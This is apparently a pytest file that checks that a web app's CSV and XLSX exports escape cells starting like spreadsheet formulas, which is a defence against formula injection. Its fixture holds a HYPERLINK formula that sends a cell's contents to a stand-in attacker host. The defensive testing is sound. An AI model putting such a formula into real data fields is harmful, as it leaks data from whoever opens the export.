"""Issue 15, F7: text that starts like a formula leaves every export as plain text (OWASP).

A customer's name, a catalog name or a free text typed by anyone ends up in a CSV or XLSX a
manager opens in a spreadsheet; ``=HYPERLINK(...)`` there would run. Each export path is
walked: flask-admin's CSV, the dashboard's CSV and XLSX, the monthly report's XLSX.
"""
import csv
import io

import pytest
from openpyxl import load_workbook

from bd import db
from catalogos.servicios import Motivo
from graficos.tablero.exportar import exportar
from graficos.tablero.tablas import Tabla
from reclamos.clientes.modelo import Cliente
from reglas.hojas import PREFIJOS_FORMULA, celda_segura
from tests.graficos.test_informes import _descargar, casos  # noqa: F401  (fixture)

FORMULA = '=HYPERLINK("http://malo.example/robar?x="&A1,"Ver")'


@pytest.mark.parametrize('prefijo', PREFIJOS_FORMULA)
def test_cada_prefijo_queda_como_texto(prefijo):
    assert celda_segura(prefijo + '1+1') == "'" + prefijo + '1+1'
    assert celda_segura(-5) == -5 and celda_segura('Lima') == 'Lima'


def test_tablero_csv_y_xlsx():
    tabla = Tabla('por_area', 'Por área', ['Área', 'Casos'], [[FORMULA, 3], ['@SUMA(A1)', -2]])
    datos, _ = exportar(tabla, 'csv')
    filas = list(csv.reader(io.StringIO(datos.decode('utf-8-sig'))))
    assert filas[1] == ["'" + FORMULA, '3'] and filas[2] == ["'@SUMA(A1)", '-2']
    datos, _ = exportar(tabla, 'xlsx', '-filtros')
    hoja = load_workbook(io.BytesIO(datos)).active
    assert hoja['A2'].value == "'" + FORMULA and hoja['A2'].data_type == 's'
    assert hoja['B3'].value == -2 and hoja['A5'].value == "'-filtros"


def test_exportacion_csv_de_flask_admin(client, como):
    Cliente.create(tipo_documento_identidad='DNI', numero_documento='11112222', nombre=FORMULA,
                   email='+51@correo.pe')
    como('admin')
    respuesta = client.get('/admin/clientes/export/csv/')
    assert respuesta.status_code == 200
    texto = respuesta.get_data(as_text=True)
    celdas = [c for fila in csv.reader(io.StringIO(texto)) for c in fila]
    assert "'" + FORMULA in celdas and "'+51@correo.pe" in celdas
    assert FORMULA not in celdas


def test_informe_xlsx(app, client, como, casos):  # noqa: F811
    with app.app_context(), db.connection_context():
        Motivo.update(nombre=FORMULA).where(Motivo.codigo == 'LENTITUD').execute()
    como('gerente')
    xlsx = _descargar(client, 'xlsx', plantilla='MENSUAL_CANAL', mes='2026-02',
                      canal='TELEFONO')
    hoja = load_workbook(io.BytesIO(xlsx.data)).active
    celdas = [c for fila in hoja.iter_rows() for c in fila if c.value is not None]
    assert any(c.value == "'" + FORMULA and c.data_type == 's' for c in celdas)
    assert not any(c.data_type == 'f' for c in celdas)
